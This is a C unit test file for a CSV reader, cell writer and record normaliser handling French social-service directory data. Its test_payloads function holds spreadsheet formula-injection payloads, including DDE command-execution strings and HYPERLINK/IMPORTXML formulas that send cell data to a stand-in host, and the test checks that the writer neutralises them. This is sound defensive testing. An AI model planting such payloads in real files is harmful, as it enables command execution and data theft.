/* Producers' files: CSV as it comes, values as they are written, v0, and
 * random bytes. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/clock.h"
#include "base/mem.h"
#include "session/csvlist.h"
#include "cli/tidy.h"
#include "tests/unit/share.h"

static bool
known(void *data, const char *column)
{
	return strcmp(column, "id") == 0 || strcmp(column, "nom") == 0 ||
		strcmp(column, "Prénom") == 0;
}

static FILE *
file_of(const char *bytes, size_t n)
{
	FILE *f = tmpfile();

	assert_non_null(f);
	assert_int_equal(fwrite(bytes, 1, n, f), n);
	rewind(f);
	return f;
}

/* All its lines: "LINE{...}" or "LINE!{...}" for one at fault, or "E" and the
 * beginning of what was said; read twice, the same twice. */
static void
read_all(const char *bytes, size_t n, struct buf *out)
{
	struct csvlist *l;
	json_t *r;
	int turn;
	size_t first = 0;

	buf_clear(out);
	if (csvlist_open(file_of(bytes, n), "f.csv", known, NULL, &l)) {
		buf_printf(out, "E %s", err_text());
		return;
	}
	for (turn = 0; turn < 2; turn++) {
		enum err e;

		if (turn) {
			first = out->len;
			assert_int_equal(csvlist_rewind(l), E_OK);
		}
		while (!(e = csvlist_next(l, &r)) && r) {
			char *text = json_dumps(r, JSON_COMPACT);

			buf_printf(out, "%d%s%s", csvlist_line(l),
				csvlist_fault(l) ? "!" : "", text);
			free(text);
			json_decref(r);
		}
		if (e)
			buf_printf(out, "E %s", err_text());
	}
	assert_int_equal(out->len, 2 * first);
	assert_memory_equal(out->data, out->data + first, first);
	buf_drop(out, first);
	csvlist_free(l);
}

static void
test_dialects(void **state)
{
	static const struct { const char *file, *lines; } c[] = {
		{ "id;nom\n1;a\n", "2{\"id\":\"1\",\"nom\":\"a\"}" },
		{ "id,nom\r\n1,a;b\r\n", "2{\"id\":\"1\",\"nom\":\"a;b\"}" },
		{ "id\tnom\n1\ta,b", "2{\"id\":\"1\",\"nom\":\"a,b\"}" },
		{ "\xef\xbb\xbfid;nom\n1;\xc3\xa9\n",
			"2{\"id\":\"1\",\"nom\":\"é\"}" },
		{ "sep=,\r\nid,nom\r\n1,a\r\n",
			"3{\"id\":\"1\",\"nom\":\"a\"}" },
		/* CP1252: an apostrophe, an oe, an accent */
		{ "id;Pr\xe9nom\n1;l\x92\x9cuvre\n",
			"2{\"id\":\"1\",\"Prénom\":\"l’œuvre\"}" },
		/* one bad byte in UTF-8 is a bad line */
		{ "id;Pr\xc3\xa9nom\n1;\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\n"
			"2;\xe9\n3;a\n", "2{\"id\":\"1\",\"Prénom\":\"éééé\"}"
			"3!{\"id\":\"2\",\"Prénom\":\"\"}"
			"4{\"id\":\"3\",\"Prénom\":\"a\"}" },
		/* several lines in a cell; the number is where it starts */
		{ "id;nom\n1;\"a\nb\"\n2;c\n", "2{\"id\":\"1\",\"nom\":"
			"\"a\\nb\"}4{\"id\":\"2\",\"nom\":\"c\"}" },
		{ "id;nom\r\n1;\"a\r\nb\"\r\n2;c\r\n", "2{\"id\":\"1\","
			"\"nom\":\"a\\r\\nb\"}4{\"id\":\"2\",\"nom\":\"c\"}" },
		{ "id;nom\r1;a\r2;b\r", "2{\"id\":\"1\",\"nom\":\"a\"}"
			"3{\"id\":\"2\",\"nom\":\"b\"}" },
		/* empty lines, empty cells, short lines */
		{ "\n\nid;nom\n\n;;\n1\n;b\n",
			"6{\"id\":\"1\"}7{\"nom\":\"b\"}" },
		{ "id;nom\n1;\"il dit \"\"oui\"\"\"\n",
			"2{\"id\":\"1\",\"nom\":\"il dit \\\"oui\\\"\"}" },
		{ "id;nom\n1;5\" de tuyau\n",
			"2{\"id\":\"1\",\"nom\":\"5\\\" de tuyau\"}" },
		{ "id;nom\n1;a;b\n",
			"2!{\"id\":\"1\",\"nom\":\"a\",\"\":[\"b\"]}" },
		{ ";id;nom\n0;1;a\n", "2{\"id\":\"1\",\"nom\":\"a\"}" },
		{ "id;nom\n1;'=1+1\n2;'a\n", "2{\"id\":\"1\",\"nom\":\"=1+1\"}"
			"3{\"id\":\"2\",\"nom\":\"'a\"}" },
		{ "id;nom\n1;\x1b[31mrouge\n",
			"2{\"id\":\"1\",\"nom\":\"\\u001B[31mrouge\"}" },
		{ "id;nom\n1;\"a\n2;b\n", "E f.csv:2: " },
		{ "id;id\n", "E f.csv : deux colonnes « id »" },
		{ "x;y\n1;2\n", "E f.csv : aucune colonne connue" },
		{ "\xff\xfei\0d\0", "E f.csv : c'est de l'UTF-16" },
		{ "PK\3\4abcd", "E f.csv : c'est un classeur" },
	};
	struct buf out;
	size_t i;

	buf_init(&out);
	for (i = 0; i < sizeof c / sizeof *c; i++) {
		size_t n = strncmp(c[i].file, "\xff\xfe", 2) == 0 ? 6 :
			strlen(c[i].file), want = strlen(c[i].lines);

		read_all(c[i].file, n, &out);
		if (strncmp(buf_str(&out), c[i].lines, want) != 0 ||
			(*c[i].lines != 'E' && out.len != want))
			fail_msg("%zu: %s, not %s", i, buf_str(&out),
				c[i].lines);
	}
	read_all("id;nom\n1;a\0b\n", 13, &out);
	assert_non_null(strstr(buf_str(&out), "un octet nul"));
	buf_done(&out);
}

/* One cell or one line cannot take the memory of the whole file. */
static void
test_bounds(void **state)
{
	size_t n = SHARE(3 << 20), i;
	char *big = xmalloc(n);
	struct buf out;

	buf_init(&out);
	memset(big, 'a', n);
	memcpy(big, "id;nom\n1;\"", 10);
	read_all(big, n, &out);
	assert_non_null(strstr(buf_str(&out), "guillemet"));
	for (i = 7; i < n; i++)
		big[i] = ';';
	big[7] = '1';
	read_all(big, n, &out);
	assert_non_null(strstr(buf_str(&out), "2!"));
	buf_done(&out);
	free(big);
}

/* --- values ----------------------------------------------------------- */

/* The record that a line of "column=value" pairs becomes, without what every
 * record has; and its mistakes. */
static void
tidied(const struct df *fields, const char *pairs, struct buf *out)
{
	struct tidy *t = tidy_new(fields, NULL, NULL);
	json_t *raw = json_object(), *r;
	struct buf why;
	char *copy = xstrdup(pairs), *p = copy, *one, *text;

	while ((one = strsep(&p, "\x01")) != NULL && *one) {
		char *v = strchr(one, '=');

		*v++ = '\0';
		json_object_set_new(raw, one, json_string(v));
	}
	buf_init(&why);
	buf_clear(out);
	r = tidy_record(t, raw, &why);
	text = r ? json_dumps(r, JSON_COMPACT | JSON_SORT_KEYS |
		JSON_REAL_PRECISION(15)) : xstrdup("ignored");
	buf_printf(out, "%s%s", text, why.len ? " ! " : "");
	buf_put(out, why.data ? (const char *)why.data : "", why.len ?
		strcspn(buf_str(&why), "\n") : 0);
	free(text);
	free(copy);
	buf_done(&why);
	json_decref(raw);
	json_decref(r);
	tidy_free(t);
}

#define AND "\x01"

static void
test_structures(void **state)
{
	static const struct { const char *pairs, *record; } c[] = {
		{ "CODE_INSEE=2a004", "{\"code_insee\":\"2A004\"}" },
		{ "Code  Insee=97411.0", "{\"code_insee\":\"97411\"}" },
		{ "code-postal=1400", "{} ! code_postal : il manque un zéro" },
		{ "C.P.=x", "{\"C.P.\":\"x\"}" },
		{ "cp=97400", "{\"code_postal\":\"97400\"}" },
		{ "SIRET=732 829 320 00074", "{\"siret\":\"73282932000074\"}" },
		{ "siret=73282932000074.0", "{\"siret\":\"73282932000074\"}" },
		{ "siret=8,1234E+13", "{} ! siret : un tableur" },
		{ "siret=8.12345678E13", "{} ! siret : un tableur" },
		{ "siret=81234567800000", "{} ! siret : les derniers" },
		{ "siret=1234567800012", "{} ! siret : il manque un zéro" },
		{ "Téléphone=02 62 12 34 56",
			"{\"telephone\":\"+262262123456\"}" },
		{ "tel=01.44.38.38.38", "{\"telephone\":\"+33144383838\"}" },
		{ "tel=3639", "{\"telephone\":\"3639\"}" },
		{ "tel=33144383838.0", "{\"telephone\":\"33144383838\"}" },
		{ "tel=demander à l'accueil",
			"{\"telephone\":\"demander à l'accueil\"}" },
		{ "tel=2,62E+08", "{} ! telephone : un tableur" },
		{ "Latitude=20,8789" AND "Longitude=55,44" AND "insee=97411",
			"{\"code_insee\":\"97411\",\"latitude\":-20.8789,"
			"\"longitude\":55.44}" },
		{ "lat=\xe2\x88\x92" "20.5", "{\"latitude\":-20.5}" },
		{ "lat=1.234,5", "{\"latitude\":\"1.234,5\"}" },
		{ "lat=", "{}" },
		{ "lat=1e999", "{\"latitude\":\"1e999\"}" },
		{ "lat=0x10", "{\"latitude\":\"0x10\"}" },
		{ "date_maj=12/03/2025", "{\"date_maj\":\"2025-03-12\"}" },
		{ "date maj=1.3.25", "{\"date_maj\":\"2025-03-01\"}" },
		{ "Date_MAJ=2025-03-12T10:30:00+02:00",
			"{\"date_maj\":\"2025-03-12\"}" },
		{ "Date_MAJ=2025-03-12 10:30",
			"{\"date_maj\":\"2025-03-12\"}" },
		{ "date_maj=12/03/2025 08:00",
			"{\"date_maj\":\"2025-03-12\"}" },
		{ "date_maj=1741737600000", "{\"date_maj\":1741737600000}" },
		{ "date_maj=03/13/2025", "{\"date_maj\":\"03/13/2025\"}" },
		{ "nom=NULL", "{}" }, { "nom=None", "{}" },
		{ "nom= nan ", "{}" }, { "nom= a ", "{\"nom\":\"a\"}" },
		{ "site=www.exemple.fr/a",
			"{\"site_web\":\"https://www.exemple.fr/a\"}" },
		{ "E-mail= mailto:a@b.fr", "{\"courriel\":\"a@b.fr\"}" },
		{ "réseaux porteurs=['mission-locale', 'Banques Alimentaires']",
			"{\"reseaux_porteurs\":[\"mission-locale\","
			"\"banques-alimentaires\"]}" },
		{ "typologie=MDS" AND "labels_nationaux={unccas,adie}",
			"{\"reseaux_porteurs\":[\"maisons-des-solidarites\","
			"\"departements\",\"ccas-cias\",\"adie\"]}" },
		{ "typologie=ASSO" AND "antenne=true" AND "rna=W9", "{}" },
		{ "contact_public=Non" AND "tel=3639" AND "nom=abc",
			"{\"nom\":\"abc\"}" },
		{ "contact_public=oui" AND "tel=3639",
			"{\"telephone\":\"3639\"}" },
		{ "__ignore__=x" AND "nom=Un exemple", "ignored" },
		{ "__ignore__=faux" AND "nom=abc", "{\"nom\":\"abc\"}" },
		{ "presentation_resume=court" AND "presentation_detail=long",
			"{\"description\":\"long\"}" },
		{ "presentation_resume=court", "{\"description\":\"court\"}" },
		{ "ID=a1" AND "source=dora" AND "Typologie=ML",
			"{\"id\":\"dora--a1\",\"reseaux_porteurs\":"
			"[\"mission-locale\"],\"source\":\"dora\"}" },
		{ "id=a1" AND "source=dora",
			"{\"id\":\"a1\",\"source\":\"dora\"}" },
		{ "inconnu=x" AND "_interne=y" AND "Unnamed: 0=3",
			"{\"inconnu\":\"x\"}" },
		{ "autres={\"inconnu\":[1]}", "{\"inconnu\":[1]}" },
	};
	struct buf out;
	size_t i;

	buf_init(&out);
	for (i = 0; i < sizeof c / sizeof *c; i++) {
		tidied(df_structure, c[i].pairs, &out);
		if (strncmp(buf_str(&out), c[i].record, strlen(c[i].record)) ||
			(!strstr(c[i].record, " ! ") &&
			out.len != strlen(c[i].record)))
			fail_msg("%s: %s, not %s", c[i].pairs, buf_str(&out),
				c[i].record);
	}
	buf_done(&out);
}

static void
test_services(void **state)
{
	static const struct { const char *pairs, *record; } c[] = {
		{ "publics={jeunes,\"femmes\"}",
			"{\"publics\":[\"jeunes\",\"femmes\"]}" },
		{ "publics=[\"jeunes\", \"jeunes\"]",
			"{\"publics\":[\"jeunes\"]}" },
		{ "publics=jeunes|femmes", "{\"publics\":[\"jeunes\","
			"\"femmes\"]}" },
		{ "publics=Jeunes, Séniors", "{\"publics\":[\"jeunes\","
			"\"seniors\"]}" },
		{ "publics=tous-publics, jeunes",
			"{\"publics\":[\"tous-publics\"]}" },
		{ "publics=martiens", "{\"publics\":[\"martiens\"]}" },
		{ "publics={}", "{}" }, { "publics=[]", "{}" },
		/* said to be none, where there may be none */
		{ "thematiques=[]", "{\"thematiques\":[]}" },
		{ "thematiques=", "{}" },
		{ "type=Aide financière", "{\"type\":\"aide-financiere\"}" },
		{ "zone_eligibilite=974", "{\"zone_eligibilite\":[\"974\"]}" },
		{ "nombre_semaines=4,0", "{\"nombre_semaines\":4}" },
		{ "nombre_semaines=4,5", "{\"nombre_semaines\":4.5}" },
		/* v0 */
		{ "profils={salaries,locataires,jeunes}" AND "nom=Un nom",
			"{\"description\":\"Un nom\",\"nom\":\"Un nom\","
			"\"publics\":[\"actifs\",\"jeunes\"]}" },
		{ "types={accueil,atelier}", "{\"type\":\"information\"}" },
		{ "frais={gratuit,gratuit-sous-conditions}" AND
			"cumulable=true", "{\"frais\":\"payant\","
			"\"frais_precisions\":\"Gratuit sous conditions\"}" },
		{ "thematiques={famille,logement-hebergement--etre-accompagne-"
			"en cas-de-difficultes-financieres}",
			"{\"thematiques\":[\"famille\",\"logement-hebergement"
			"--reduire-les-impayes-de-loyer\"]}" },
		{ "modes_orientation_accompagnateur={prendre-rdv,autre}",
			"{\"mobilisable_par\":[\"professionnels\"],"
			"\"modes_mobilisation\":[\"envoyer-un-courriel\","
			"\"utiliser-lien-mobilisation\"]}" },
		{ "modes_orientation_beneficiaire={autre}",
			"{\"mobilisable_par\":[\"usagers\"]}" },
		{ "zone_diffusion_type=region" AND "zone_diffusion_code=53",
			"{\"zone_eligibilite\":[\"22\",\"29\",\"35\",\"56\"]}" },
		{ "zone_diffusion_type=pays",
			"{\"zone_eligibilite\":[\"france\"]}" },
		{ "zone_diffusion_type=departement" AND "code_postal=97400",
			"{\"code_postal\":\"97400\","
			"\"zone_eligibilite\":[\"974\"]}" },
		{ "pre_requis={Être majeur,Résider ici}" AND
			"justificatifs=Pièce d'identité",
			"{\"conditions_acces\":\"Être majeur ; Résider ici ; "
			"Pièce d'identité\"}" },
		{ "page_web=https://a.fr" AND "prise_rdv=https://b.fr",
			"{\"lien_mobilisation\":\"https://a.fr\"}" },
	};
	struct buf out;
	size_t i;

	buf_init(&out);
	for (i = 0; i < sizeof c / sizeof *c; i++) {
		tidied(df_service, c[i].pairs, &out);
		if (strcmp(buf_str(&out), c[i].record) != 0)
			fail_msg("%s: %s, not %s", c[i].pairs, buf_str(&out),
				c[i].record);
	}
	buf_done(&out);
}

/* --- random bytes ----------------------------------------------------- */

static uint32_t seed = 20261125;

static uint32_t
draw(uint32_t below)
{
	seed = seed * 1664525u + 1013904223u;
	return (seed >> 8) % below;
}

static const char *const bits[] = { ";", ",", "\t", "\"", "\"\"", "'", "\n",
	"\r", "\r\n", "id", "nom", "Prénom", "a", "é", "\xe9", "\x80",
	"\xef\xbb\xbf", "=1", "@", "{a,b}", "['a', \"b\"]", "\\", "|", "[",
	"]", "{", "}", "\x1b", "1e99", "-", "sep=", "siret", "date_maj",
	"code_insee", "thematiques", "profils", "NULL", "8,1E+13", "12/3/25",
	" ", "\xc2\xa0", "\xf0\x9f\x98\x80", "frais", "latitude" };

static void
test_random(void **state)
{
	struct tidy *t[2] = { NULL, NULL };
	char file[400];
	struct buf why;
	int i, files = getenv("LONG") ? 100000 : SHARE(15000);

	buf_init(&why);
	for (i = 0; i < files; i++) {
		size_t n = 0;
		struct csvlist *l;
		struct tidy *one;
		json_t *raw, *r;
		FILE *f;
		long unknown = 0;

		if (i % 500 == 0) {     /* it keeps the columns it has seen */
			tidy_free(t[0]);
			tidy_free(t[1]);
			t[0] = tidy_new(df_structure, "dora", NULL);
			t[1] = tidy_new(df_service, NULL, "2026-01-01");
		}
		one = t[i % 2];

		if (draw(4))
			n = (size_t)snprintf(file, sizeof file, "id;nom%s",
				draw(2) ? "\n" : "");
		while (n < 300 && draw(40)) {
			const char *b = bits[draw(sizeof bits /
				sizeof *bits)];

			if (!draw(8))
				file[n++] = (char)draw(256);
			else
				n += (size_t)snprintf(file + n,
					sizeof file - n, "%s", b);
		}
		f = n ? fmemopen(file, n, "r") : NULL;
		if (!f || csvlist_open(f, "f", tidy_knows, one, &l))
			continue;
		while (!csvlist_next(l, &raw) && raw) {
			r = tidy_record(one, raw, &why);
			if (r)
				df_check(i % 2 ? df_service : df_structure, r,
					&why, &unknown);
			json_decref(r);
			json_decref(raw);
		}
		buf_clear(&why);
		csvlist_free(l);
	}
	buf_done(&why);
	tidy_free(t[0]);
	tidy_free(t[1]);
}

/* What is written is read back, and no spreadsheet computes it. */
static void
test_round_trip(void **state)
{
	static const char delimiters[] = { ';', ',', '\t' };
	int i;

	for (i = 0; i < SHARE(5000); i++) {
		char text[300] = "", *made = NULL;
		char d = delimiters[draw(3)];
		size_t n = 0, size;
		struct csvlist *l;
		json_t *r;
		FILE *f;

		while (n < 200 && draw(8)) {
			const char *b = bits[draw(sizeof bits /
				sizeof *bits)];
			size_t k = strlen(b);

			if (*b == '\x1b' || (*b & 0xf0) == 0x80 ||
				*b == '\xe9' || *b == '\xef')
				continue;
			memcpy(text + n, b, k + 1);
			n += k;
		}
		f = open_memstream(&made, &size);
		fprintf(f, "id%cPrénom\n", d);
		csvlist_cell(f, "1", d);
		putc(d, f);
		csvlist_cell(f, text, d);
		putc('\n', f);
		fclose(f);
		assert_int_equal(csvlist_open(file_of(made, size), "f", known,
			NULL, &l), E_OK);
		assert_int_equal(csvlist_next(l, &r), E_OK);
		assert_non_null(r);
		if (strcmp(json_string_value(json_object_get(r, "Prénom")) ?
			json_string_value(json_object_get(r, "Prénom")) : "",
			text) != 0)
			fail_msg("%s: %s", made, text);
		json_decref(r);
		csvlist_free(l);
		free(made);
	}
}

static void
written(const char *text, const char *want)
{
	char *made = NULL;
	size_t size;
	FILE *f = open_memstream(&made, &size);

	csvlist_cell(f, text, ';');
	fclose(f);
	assert_string_equal(made, want);
	free(made);
}

static void
test_formulas(void **state)
{
	written("=SOMME(A1)", "'=SOMME(A1)");
	written("+33144383838", "'+33144383838");
	written("@a", "'@a");
	written("-2+3", "'-2+3");
	written("-20.88", "-20.88");
	written("-", "'-");
	written("'=1", "''=1");
	written("=\"a;b\"", "\"'=\"\"a;b\"\"\"");
	written("a;b", "\"a;b\"");
	written(" a", "\" a\"");
	written(NULL, "");
}

/* Would a spreadsheet compute this cell?  By itself, not by what csvlist.c
 * thinks. */
static bool
computed(const char *cell)
{
	static const char *const sign[] = { "=", "+", "-", "@", "\t", "\r",
		"＝", "＋", "－", "＠" };
	char *end;
	size_t i;

	strtod(cell, &end);
	if (end > cell && !*end && *cell != '+')
		return false;
	while (*cell == ' ' || *cell == '\n')
		cell++;
	for (i = 0; i < sizeof sign / sizeof *sign; i++)
		if (strncmp(cell, sign[i], strlen(sign[i])) == 0)
			return true;
	return false;
}

/* The second cell of the second line, as a spreadsheet cuts it. */
static void
cut_cell(const char *made, char *out)
{
	const char *p = strstr(made, "\n1;") + 3;
	bool inside = *p == '"';

	for (p += inside; *p; p++) {
		if (inside && *p == '"' && *++p != '"')
			break;
		if (!inside && strchr(";\n", *p))
			break;
		*out++ = *p;
	}
	*out = '\0';
	assert_string_equal(p, "\n");
}

static void
try_payload(const char *text)
{
	char *made = NULL, cell[400];
	size_t size;
	struct csvlist *l;
	json_t *r;
	FILE *f = open_memstream(&made, &size);

	fputs("id;Prénom\n1;", f);
	csvlist_cell(f, text, ';');
	putc('\n', f);
	fclose(f);
	cut_cell(made, cell);
	if (computed(cell))
		fail_msg("%s is computed", cell);
	assert_int_equal(csvlist_open(file_of(made, size), "f", known, NULL,
		&l), E_OK);
	assert_int_equal(csvlist_next(l, &r), E_OK);
	assert_string_equal(json_string_value(json_object_get(r, "Prénom")),
		text);
	json_decref(r);
	csvlist_free(l);
	free(made);
}

/* 200 payloads: 10 starts, 20 bodies. */
static void
test_payloads(void **state)
{
	static const char *const start[] = { "=", "+", "-", "@", "\t=", "\r=",
		"＝", " =", "'=", "\n@" };
	static const char *const body[] = { "1+1", "cmd|' /C calc'!A0",
		"HYPERLINK(\"http://x/?\"&A1;\"ici\")", "SUM(1;2)", "A1",
		"IMPORTXML(CONCAT(\"http://x/\";A1);\"//a\")", "-2+3",
		"WEBSERVICE(\"http://x\")", "DDE(\"cmd\";\"/C calc\";\"x\")",
		"10+cmd|'/C x'!A", "1\n=2", "\"\";=1", "'", "=", "é",
		"33144383838", "2,5*3", "", "0x1F", "1,2;3" };
	int tried = 0;
	size_t i, j;

	(void)state;
	for (i = 0; i < 10; i++)
		for (j = 0; j < 20; j++, tried++) {
			char text[200];

			snprintf(text, sizeof text, "%s%s", start[i], body[j]);
			try_payload(text);
		}
	print_message("ok - %d payloads, no formula, all read back\n", tried);
	assert_int_equal(tried, 200);
}

/* A line that leaves: no escape, no override, no formula, one line. */
static void
test_line_out(void **state)
{
	const char *const cells[] = { "plain", "a\033[31m", "\xe2\x80\xae" "x",
		"=1+1", "a;b", "", "\xc3\xa9" "\xff" };
	char *made = NULL;
	size_t size;
	FILE *f = open_memstream(&made, &size);

	csvlist_line_out(f, 7, cells);
	fclose(f);
	assert_string_equal(made,
		"plain;a?[31m;?x;'=1+1;\"a;b\";;\xc3\xa9?\r\n");
	free(made);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_dialects),
		cmocka_unit_test(test_bounds),
		cmocka_unit_test(test_structures),
		cmocka_unit_test(test_services),
		cmocka_unit_test(test_random),
		cmocka_unit_test(test_round_trip),
		cmocka_unit_test(test_formulas),
		cmocka_unit_test(test_payloads),
		cmocka_unit_test(test_line_out),
	};

	clock_fix("2026-11-25T09:00");
	return cmocka_run_group_tests(tests, NULL, NULL);
}
